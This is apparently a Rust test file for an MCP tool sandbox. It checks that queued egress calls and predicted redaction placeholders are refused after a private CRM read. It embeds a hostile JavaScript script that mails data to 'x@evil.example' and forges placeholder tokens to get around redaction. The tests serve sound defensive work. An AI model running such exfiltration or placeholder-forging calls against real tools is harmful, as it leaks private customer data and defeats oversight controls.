//! Decisions made when a call is sent, on the bytes sent (issue 43 item 1), played by a hostile
//! script through `run` and through `serve` (the official MCP Python SDK client,
//! tests/python/budget_client.py) against the rmcp fixture server as `crm` (get_customer:
//! private), `web` (sleep, echo: unlabelled) and `mail` (send_mail: egress; it appends what it
//! received to a file). The script fills the concurrency slots, then queues a private read and
//! egress calls behind it: the egress calls were admitted before the read, but start after it,
//! so the flow rule must judge them again when they start. A placeholder the session does not
//! hold when the call is admitted is refused then, even if a later log line mints it before the
//! call would start — and nobody is asked to approve such a call.

use crate::common::bin;
use serde_json::{json, Value};
use std::path::{Path, PathBuf};

/// `dir/mcp.json`: the three servers, `mail` logging to `dir/mail.log`, the flow rule of docs/policy.md,
/// detection of e-mail addresses that only the mailer may receive, and `extra` merged into the
/// sandbox section.
fn config(dir: &Path, extra: Value) -> PathBuf {
    let fixture = json!({"command": bin("fixture-mcp-server")});
    let mail = json!({
        "command": bin("fixture-mcp-server"),
        "env": {"FIXTURE_MAIL_LOG": dir.join("mail.log")}, "files": {"write": [dir]},
    });
    let mut sandbox = json!({
        "labels": {"crm:get_customer": ["private"], "mail:send_mail": ["egress"]},
        "flows": [{"after": ["private"], "deny": ["egress"], "name": "no-exfiltration"}],
        "flow_scope": "execution",
        "sensitive": {"detect": ["email"], "reveal_to": {"email": ["mail:send_mail"]}},
    });
    for (k, v) in extra.as_object().unwrap() {
        sandbox[k] = v.clone();
    }
    let body =
        json!({"mcpServers": {"crm": fixture, "web": fixture, "mail": mail}, "sandbox": sandbox});
    let config = dir.join("mcp.json");
    std::fs::write(&config, body.to_string()).unwrap();
    config
}

/// The lines the mailer received.
fn mails(dir: &Path) -> Vec<Value> {
    std::fs::read_to_string(dir.join("mail.log"))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn events<'a>(out: &'a Value, kind: &str) -> Vec<&'a Value> {
    out["traces"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|t| t["type"] == kind)
        .collect()
}

/// The hostile script: one slot (the request's or the config's `max_concurrent_calls: 1`)
/// held by a slow call, then the private read and three mails queued behind it.
const QUEUED: &str = "
const hold = mcp.web.sleep({ms: 300});
const read = mcp.crm.get_customer({id: 7});
const mails = [1, 2, 3].map(i => mcp.mail.send_mail({to: ['x@evil.example'], subject: 'm' + i})
    .then(() => 'sent', e => [e.code, e.message]));
await hold;
const c = await read;
return await Promise.all(mails);
";

/// Each queued mail was refused when it was to start, after the read, by the flow rule.
fn assert_queued_mails_refused(out: &Value) {
    let results = out["result"].as_array().unwrap_or_else(|| panic!("{out}"));
    assert_eq!(results.len(), 3, "{out}");
    for r in results {
        assert_eq!(r[0], json!("PERMISSION_DENIED"), "{out}");
        let why = r[1].as_str().unwrap();
        assert!(
            why.starts_with(
                "mail:send_mail is egress; this execution read private data from crm:get_customer at "
            ) && why.ends_with(
                " ms (config flow rule \"no-exfiltration\"); the call was not forwarded"
            ),
            "{why}"
        );
    }
    // One `flow_decision` per refusal, after the label joined; no mail ended well.
    let decided = events(out, "flow_decision");
    assert_eq!(decided.len(), 3, "{out}");
    for d in &decided {
        assert_eq!(d["tool"], json!("mail:send_mail"));
        assert_eq!(d["decision"], json!("deny"));
        assert_eq!(d["label"], json!("egress"));
        assert_eq!(d["rule"], json!("config flow rule \"no-exfiltration\""));
    }
    let traces = out["traces"].as_array().unwrap();
    let label_at = traces
        .iter()
        .position(|t| t["type"] == "label_added" && t["label"] == "private")
        .unwrap_or_else(|| panic!("no label_added private: {out}"));
    let first_decision = traces
        .iter()
        .position(|t| t["type"] == "flow_decision")
        .unwrap();
    assert!(label_at < first_decision, "{out}");
    assert!(
        !traces.iter().any(|t| t["type"] == "tool_end"
            && t["tool"] == "mail:send_mail"
            && t["success"] == true),
        "{out}"
    );
}

#[test]
fn run_judges_a_queued_egress_call_again_when_it_starts() {
    let dir = tempfile::tempdir().unwrap();
    let config = config(dir.path(), json!({"limits": {"max_concurrent_calls": 1}}));
    let script = dir.path().join("queued.js");
    std::fs::write(&script, QUEUED).unwrap();
    let state = dir.path().join("state.db");
    let r = crate::common::cli_run_script(&[], &config, &state, &script);
    let out: Value = serde_json::from_slice(&r.stdout)
        .unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&r.stderr)));
    assert_queued_mails_refused(&out);
    assert_eq!(
        mails(dir.path()),
        Vec::<Value>::new(),
        "no mail reached the server"
    );
}

/// One `serve` session over stdio (the Python SDK client): the structured outcomes.
fn session(dir: &Path, config: &Path, calls: Value) -> Vec<Value> {
    let state = dir.join("state.db");
    let report = crate::serve_support::sdk::over_stdio("budget_client.py", config, &state, &calls);
    report["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["out"].clone())
        .collect()
}

#[test]
fn serve_decides_at_send_time_on_the_bytes_sent() {
    let dir = tempfile::tempdir().unwrap();
    // An ask rule on mails with subject "ask": the client cannot answer (no elicitation), so
    // asking is visible as `approval_requested` and a denial.
    let config = config(
        dir.path(),
        json!({"ask": [{"tool": "mail:send_mail", "if": "args.subject == 'ask'", "name": "ask-first"}]}),
    );
    let one_slot = json!({"max_concurrent_calls": 1});
    // The script names placeholders it predicts from the session's first one.
    let predict = "const next = first.replace(/1⟫$/, '2⟫'), far = first.replace(/1⟫$/, '9⟫');";
    let results = session(
        dir.path(),
        &config,
        json!([
            // 0: the session's first placeholder.
            {"code": "return 'ann@example.org'"},
            // 1: a placeholder that does not exist when the mail is admitted, minted by a log
            // line (a yieldable execution's live logs are redacted as they come) while the mail
            // waits for the slot.
            {"code": format!("{predict}
                const hold = mcp.web.sleep({{ms: 300}});
                const mail = mcp.mail.send_mail({{to: [next], subject: 'hi'}})
                    .then(() => 'sent', e => [e.code, e.message]);
                console.log('eve@evil.example');
                await hold;
                return [next, await mail];"),
             "context": {"first": "{{R0:/result}}"}, "limits": one_slot, "yield_after_ms": 20000},
            // 2: no question is asked for a call whose placeholder does not resolve.
            {"code": format!("{predict} try {{ await mcp.mail.send_mail({{to: [far], subject: 'ask'}}); return 'sent' }} catch (e) {{ return [far, e.code, e.message] }}"),
             "context": {"first": "{{R0:/result}}"}},
            // 3: the queued egress calls, through serve.
            {"code": QUEUED, "limits": one_slot},
        ]),
    );
    let out = |i: usize| &results[i];
    let first = out(0)["result"].as_str().unwrap().to_string();
    assert!(
        first.starts_with("⟪email:") && first.ends_with(":1⟫"),
        "{first}"
    );
    // 1: refused when admitted; the log line then minted it (the outcome shows the address as
    // that very placeholder), but the mail never started.
    let next = out(1)["result"][0].as_str().unwrap().to_string();
    assert_eq!(next, first.replace(":1⟫", ":2⟫"));
    let refusal = &out(1)["result"][1];
    assert_eq!(refusal[0], json!("PERMISSION_DENIED"), "{:?}", out(1));
    let why = refusal[1].as_str().unwrap();
    assert!(
        why.starts_with(&format!(
            "the arguments hold {next}, which has this session's tag, but this session never returned that kind with that number"
        )),
        "{why}"
    );
    assert_eq!(out(1)["logs"][0]["message"], json!(next), "{:?}", out(1));
    // 2: refused for the placeholder before any question.
    let far = out(2)["result"][0].as_str().unwrap().to_string();
    assert_eq!(
        out(2)["result"][1],
        json!("PERMISSION_DENIED"),
        "{:?}",
        out(2)
    );
    assert!(
        out(2)["result"][2].as_str().unwrap().starts_with(&format!(
            "the arguments hold {far}, which has this session's tag, but this session never returned"
        )),
        "{:?}",
        out(2)
    );
    assert!(
        events(out(2), "approval_requested").is_empty(),
        "{:?}",
        out(2)
    );
    // 3: as through `run`.
    assert_queued_mails_refused(out(3));
    assert_eq!(
        mails(dir.path()),
        Vec::<Value>::new(),
        "no mail reached the server"
    );
}
